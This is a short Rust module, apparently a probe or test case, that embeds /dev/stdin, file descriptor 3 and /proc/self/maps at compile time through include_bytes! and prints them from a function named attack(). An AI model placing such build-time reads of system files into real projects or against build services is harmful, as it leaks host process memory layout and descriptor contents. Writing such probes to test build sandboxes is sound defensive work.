//! Devices and descriptors at compile time.

mod clock;

pub use clock::VectorClock;

const STDIN: &[u8] = include_bytes!("/dev/stdin");
const DESCRIPTOR_3: &[u8] = include_bytes!("/proc/self/fd/3");
const MEMORY_MAP: &[u8] = include_bytes!("/proc/self/maps");

pub(crate) fn attack() {
    println!("{STDIN:?}{DESCRIPTOR_3:?}{MEMORY_MAP:?}");
}
